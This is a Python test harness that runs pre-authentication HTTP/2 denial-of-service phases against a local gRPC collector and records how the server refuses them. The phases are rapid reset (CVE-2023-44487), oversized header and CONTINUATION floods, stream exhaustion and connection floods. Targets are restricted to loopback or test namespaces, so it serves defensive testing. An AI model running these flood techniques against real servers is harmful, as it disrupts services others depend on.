#!/usr/bin/python3
"""Pre-authentication HTTP/2 load against warden-collector's agent port (issue 10).

What anyone on the LAN can do before presenting a client certificate: TLS 1.3 with ALPN h2 and
no client certificate, then raw HTTP/2 frames (Debian's python3-h2 stack: hyperframe for the
frames, hpack for the header blocks; the frames are built by hand because h2's own state machine
refuses to break the protocol, which is the point here).

Phases, each bounded in count and by a hard wall-clock cap (--phase-seconds, default 20 s), each
stopping by itself:

  rapid-reset   HEADERS immediately followed by RST_STREAM(CANCEL), in bursts (CVE-2023-44487)
  headers       header blocks over the advertised limit: one huge value, many small fields, and
                a block split over many CONTINUATION frames (CVE-2023-33953 area)
  streams       many concurrent streams on one connection, never finished (beyond
                SETTINGS_MAX_CONCURRENT_STREAMS the server must refuse them)
  connections   many TLS + HTTP/2 connections held open at once (CVE-2023-4785 area)

Only loopback targets (127.0.0.0/8, ::1), or any address when run inside a network namespace
other than the initial one (the test's own namespaces). Prints one JSON object on stdout: per
phase what was sent and what the server answered (RST_STREAM codes, GOAWAY, grpc-status,
connections closed or refused). Exit status 0 when every phase ran; 2 for bad arguments.

  h2_preauth_load.py --target 127.0.0.1:7443 [--phases rapid-reset,headers,streams,connections]
                     [--phase-seconds 20] [--scale 1.0] [--output FILE]
"""

import argparse
import ipaddress
import json
import os
import select
import signal
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENROLL_PATH = "/warden.v1.AgentService/Enroll"
RST_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
             5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
             9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def log(*args):
    print("h2_preauth_load:", *args, file=sys.stderr, flush=True)


def request_headers(extra=()):
    return [(":method", "POST"), (":scheme", "https"), (":path", ENROLL_PATH),
            (":authority", "warden-collector"), ("content-type", "application/grpc"),
            ("te", "trailers")] + list(extra)


class Conn:
    """One TLS 1.3 + HTTP/2 client connection speaking raw frames."""

    def __init__(self, host, port, timeout=5.0, source=None):
        self.closed = False
        self.goaway = None  # error code of the GOAWAY received, if any
        self.server_settings = {}
        self.rst = {}  # RST_STREAM error code name -> count
        self.statuses = {}  # grpc-status (or ":status <n>") -> count
        self.answered = set()  # streams the server ended (RST, trailers)
        self.next_id = 1
        self._buf = b""
        self._enc = hpack.Encoder()
        self._dec = hpack.Decoder()
        self._dec.max_header_list_size = 1 << 20
        self._block = None  # (stream_id, bytes, end_stream) while CONTINUATIONs arrive
        raw = socket.create_connection((host, port), timeout=timeout,
                                       source_address=(source, 0) if source else None)
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE  # an attacker does not care who answers
        ctx.minimum_version = ssl.TLSVersion.TLSv1_3
        ctx.set_alpn_protocols(["h2"])
        try:
            self.sock = ctx.wrap_socket(raw, server_hostname="warden-collector")
        except Exception:
            raw.close()
            raise
        if self.sock.selected_alpn_protocol() != "h2":
            self.sock.close()
            raise ConnectionError("server did not select h2")
        s = SettingsFrame(0)
        s.settings = {SettingsFrame.ENABLE_PUSH: 0, SettingsFrame.INITIAL_WINDOW_SIZE: 1 << 20}
        self.send(PREFACE + s.serialize())

    def established(self, timeout=5.0):
        """True once the server's SETTINGS arrived (TLS and HTTP/2 accepted)."""
        deadline = time.monotonic() + timeout
        while not self.server_settings and not self.closed and time.monotonic() < deadline:
            self.pump(0.05)
        return bool(self.server_settings) and not self.closed

    def send(self, data):
        if self.closed:
            return False
        try:
            self.sock.settimeout(5.0)
            self.sock.sendall(data)
            return True
        except (OSError, ssl.SSLError):
            self.closed = True
            return False

    def new_stream(self):
        sid = self.next_id
        self.next_id += 2
        return sid

    def headers_frames(self, sid, headers, end_stream=False, fragment=16384, raw_block=None):
        block = raw_block if raw_block is not None else self._enc.encode(headers)
        first, rest = block[:fragment], block[fragment:]
        h = HeadersFrame(sid, first)
        if end_stream:
            h.flags.add("END_STREAM")
        out = []
        if not rest:
            h.flags.add("END_HEADERS")
            return h.serialize()
        out.append(h.serialize())
        while rest:
            chunk, rest = rest[:fragment], rest[fragment:]
            c = ContinuationFrame(sid, chunk)
            if not rest:
                c.flags.add("END_HEADERS")
            out.append(c.serialize())
        return b"".join(out)

    @staticmethod
    def rst_frame(sid, code=8):
        f = RstStreamFrame(sid)
        f.error_code = code
        return f.serialize()

    def pump(self, timeout=0.0):
        """Reads and handles whatever the server sent, waiting at most `timeout` for the first."""
        if self.closed:
            return
        try:
            if self.sock.pending() == 0:
                r, _, _ = select.select([self.sock], [], [], timeout)
                if not r:
                    return
            self.sock.settimeout(0.2)
            while True:
                data = self.sock.recv(1 << 16)
                if not data:
                    self.closed = True
                    break
                self._buf += data
                if self.sock.pending() == 0:
                    r, _, _ = select.select([self.sock], [], [], 0)
                    if not r:
                        break
        except (socket.timeout, ssl.SSLWantReadError):
            pass
        except (OSError, ssl.SSLError):
            self.closed = True
        self._parse()

    def _parse(self):
        while len(self._buf) >= 9:
            try:
                frame, length = Frame.parse_frame_header(memoryview(self._buf[:9]))
            except Exception:
                self.closed = True
                return
            if len(self._buf) < 9 + length:
                return
            body, self._buf = self._buf[9:9 + length], self._buf[9 + length:]
            try:
                frame.parse_body(memoryview(body))
            except Exception:
                continue
            self._handle(frame)

    def _handle(self, f):
        if isinstance(f, SettingsFrame):
            if "ACK" not in f.flags:
                self.server_settings.update(f.settings)
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(f, PingFrame):
            if "ACK" not in f.flags:
                self.send(PingFrame(0, data=f.opaque_data, flags=["ACK"]).serialize())
        elif isinstance(f, RstStreamFrame):
            name = RST_NAMES.get(f.error_code, str(f.error_code))
            self.rst[name] = self.rst.get(name, 0) + 1
            self.answered.add(f.stream_id)
        elif isinstance(f, GoAwayFrame):
            self.goaway = RST_NAMES.get(f.error_code, str(f.error_code))
        elif isinstance(f, (HeadersFrame, ContinuationFrame)):
            if isinstance(f, HeadersFrame):
                self._block = (f.stream_id, bytes(f.data), "END_STREAM" in f.flags)
            elif self._block:
                sid, data, end = self._block
                self._block = (sid, data + bytes(f.data), end)
            if "END_HEADERS" in f.flags and self._block:
                sid, data, end = self._block
                self._block = None
                try:
                    fields = dict(self._dec.decode(data))
                except Exception:
                    fields = {}
                if "grpc-status" in fields:
                    key = "grpc-status " + str(fields["grpc-status"])
                    self.statuses[key] = self.statuses.get(key, 0) + 1
                    self.answered.add(sid)
                elif ":status" in fields and fields[":status"] != "200":
                    key = ":status " + str(fields[":status"])
                    self.statuses[key] = self.statuses.get(key, 0) + 1
                    self.answered.add(sid)
                if end:
                    self.answered.add(sid)
        elif isinstance(f, DataFrame):
            if f.flow_controlled_length:
                w = WindowUpdateFrame(0)
                w.window_increment = f.flow_controlled_length
                self.send(w.serialize())

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass
        self.closed = True


def merge(into, conn):
    for k, v in conn.rst.items():
        into["rst_stream"][k] = into["rst_stream"].get(k, 0) + v
    for k, v in conn.statuses.items():
        into["grpc_status"][k] = into["grpc_status"].get(k, 0) + v
    if conn.goaway is not None:
        into["goaway"][conn.goaway] = into["goaway"].get(conn.goaway, 0) + 1
    if conn.server_settings:
        into["server_settings"] = {str(k): v for k, v in conn.server_settings.items()}


def new_result(name):
    return {"phase": name, "connections": 0, "connect_failed": 0, "not_established": 0,
            "closed_by_server": 0, "rst_stream": {}, "goaway": {}, "grpc_status": {},
            "server_settings": {}}


def connect(args, result):
    try:
        c = Conn(args.host, args.port, source=args.source)
    except (OSError, ssl.SSLError, ConnectionError) as e:
        result["connect_failed"] += 1
        result.setdefault("connect_errors", {})
        key = type(e).__name__
        result["connect_errors"][key] = result["connect_errors"].get(key, 0) + 1
        return None
    result["connections"] += 1
    if not c.established():
        result["not_established"] += 1
        merge(result, c)
        c.close()
        return None
    return c


def finish(result, conns, started):
    # One last look at what the server sent: a short wait on the first connection, then
    # whatever is already there on the others.
    for i, c in enumerate(conns):
        if c is None:
            continue
        c.pump(0.2 if i == 0 else 0)
        if c.closed:
            result["closed_by_server"] += 1
        merge(result, c)
        c.close()
    result["seconds"] = round(time.monotonic() - started, 2)
    return result


def phase_rapid_reset(args):
    """HEADERS + RST_STREAM(CANCEL) in bursts of 100 on a few connections."""
    r = new_result("rapid-reset")
    started = time.monotonic()
    limit = int(200000 * args.scale)
    conns = [c for c in (connect(args, r) for _ in range(4)) if c]
    sent = 0
    while conns and sent < limit and time.monotonic() - started < args.phase_seconds:
        live = [c for c in conns if not c.closed and c.goaway is None]
        if not live:
            reconnects = r.setdefault("reconnects", 0)
            if reconnects >= 20:
                break
            r["reconnects"] = reconnects + 1
            c = connect(args, r)
            if c:
                conns.append(c)
            continue
        for c in live:
            burst = []
            for _ in range(100):
                sid = c.new_stream()
                if sid >= 1 << 31:
                    c.closed = True
                    break
                burst.append(c.headers_frames(sid, request_headers()))
                burst.append(Conn.rst_frame(sid))
            if c.send(b"".join(burst)):
                sent += len(burst) // 2
            c.pump(0)
    r["streams_sent"] = sent
    return finish(r, conns, started)


def phase_headers(args):
    """Header blocks over the limit; each on a stream of its own, reconnecting when needed."""
    r = new_result("headers")
    started = time.monotonic()
    kinds = [
        ("one_64k_value", lambda c: [("x-big", "a" * 65536)]),
        ("4000_small_fields", lambda c: [("x-f%d" % i, "v%d" % i) for i in range(4000)]),
        # One megabyte of literal fields, sent as HEADERS + 63 CONTINUATION frames.
        ("1mb_continuations", lambda c: [("x-c%d" % i, "b" * 1000) for i in range(1000)]),
    ]
    attempts = int(60 * args.scale)
    r["attempts"] = {}
    r["answered"] = {}
    c = None
    conns = []
    n = 0
    while n < attempts and time.monotonic() - started < args.phase_seconds:
        name, fields = kinds[n % len(kinds)]
        n += 1
        if c is None or c.closed or c.goaway is not None:
            c = connect(args, r)
            if c is None:
                continue
            conns.append(c)
        sid = c.new_stream()
        # Literal fields never indexed: the block stays as big as it looks and leaves the
        # server's dynamic table alone (the connection's own encoder stays in step with it).
        block = hpack.Encoder().encode(
            [hpack.NeverIndexedHeaderTuple(k, v) for k, v in request_headers() + fields(c)],
            huffman=False)
        r["attempts"][name] = r["attempts"].get(name, 0) + 1
        c.send(c.headers_frames(sid, None, end_stream=True, raw_block=block))
        # A collector still digesting the rapid-reset phase's backlog (a sanitizer build under
        # load) can take seconds to answer; a refusal is what counts, not how soon.
        deadline = time.monotonic() + 8.0
        while sid not in c.answered and not c.closed and c.goaway is None \
                and time.monotonic() < deadline:
            c.pump(0.05)
        if sid in c.answered or c.closed or c.goaway is not None:
            r["answered"][name] = r["answered"].get(name, 0) + 1
    return finish(r, conns, started)


def phase_streams(args):
    """Many concurrent streams per connection: HEADERS without END_STREAM, never any DATA."""
    r = new_result("streams")
    started = time.monotonic()
    per_conn = int(1000 * args.scale)
    conns = [c for c in (connect(args, r) for _ in range(4)) if c]
    opened = 0
    for c in conns:
        burst = []
        for _ in range(per_conn):
            burst.append(c.headers_frames(c.new_stream(), request_headers()))
        if c.send(b"".join(burst)):
            opened += per_conn
        c.pump(0.1)
    # Hold them open a while (the server keeps a call per accepted stream), reading its answers.
    hold = min(5.0, args.phase_seconds / 2)
    while time.monotonic() - started < hold:
        for c in conns:
            c.pump(0.05)
    r["streams_opened"] = opened
    return finish(r, conns, started)


def phase_connections(args):
    """Many TLS + HTTP/2 connections at once, each with one open stream, held, then closed."""
    r = new_result("connections")
    started = time.monotonic()
    count = int(300 * args.scale)
    conns = []
    for _ in range(count):
        if time.monotonic() - started > args.phase_seconds * 0.75:
            break
        c = connect(args, r)
        if c:
            c.send(c.headers_frames(c.new_stream(), request_headers()))
            conns.append(c)
    r["established"] = len(conns)
    hold = min(3.0, args.phase_seconds / 4)
    end = time.monotonic() + hold
    while time.monotonic() < end:
        for c in conns:
            c.pump(0)
        time.sleep(0.05)
    return finish(r, conns, started)


class PhaseTimeout(Exception):
    pass


PHASES = {"rapid-reset": phase_rapid_reset, "headers": phase_headers,
          "streams": phase_streams, "connections": phase_connections}


def allowed_target(host):
    try:
        addr = ipaddress.ip_address(host)
    except ValueError:
        return False
    if addr.is_loopback:
        return True
    # Any other address only inside a network namespace that is not the host's own.
    try:
        return os.readlink("/proc/self/ns/net") != os.readlink("/proc/1/ns/net")
    except OSError:
        return False


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--target", required=True, help="HOST:PORT (loopback, or inside a netns)")
    p.add_argument("--phases", default="rapid-reset,headers,streams,connections")
    p.add_argument("--phase-seconds", type=float, default=20.0)
    p.add_argument("--scale", type=float, default=1.0, help="multiplies every count")
    p.add_argument("--source", help="local address to connect from (e.g. 127.0.0.2)")
    p.add_argument("--output", help="write the JSON result to this file instead of stdout")
    args = p.parse_args()
    host, _, port = args.target.rpartition(":")
    host = host.strip("[]")
    if not port.isdigit() or not allowed_target(host) or \
            (args.source and not allowed_target(args.source)):
        log("refusing target", args.target, "(loopback or a test namespace only)")
        return 2
    args.host, args.port = host, int(port)
    args.phase_seconds = max(1.0, min(args.phase_seconds, 60.0))
    args.scale = max(0.01, min(args.scale, 5.0))
    out = {"target": args.target, "phases": []}
    for name in args.phases.split(","):
        if name not in PHASES:
            log("unknown phase", name)
            return 2
        log("phase", name)
        # The hard cap: a phase still running 10 s after its own limit is cut short.
        signal.signal(signal.SIGALRM, lambda *_: (_ for _ in ()).throw(PhaseTimeout()))
        signal.alarm(int(args.phase_seconds) + 10)
        try:
            res = PHASES[name](args)
        except PhaseTimeout:
            res = new_result(name)
            res["cut_short"] = True
        finally:
            signal.alarm(0)
        log(json.dumps(res))
        out["phases"].append(res)
    text = json.dumps(out, indent=1) + "\n"
    if args.output:
        with open(args.output + ".tmp", "w") as f:
            f.write(text)
        os.rename(args.output + ".tmp", args.output)
    else:
        sys.stdout.write(text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
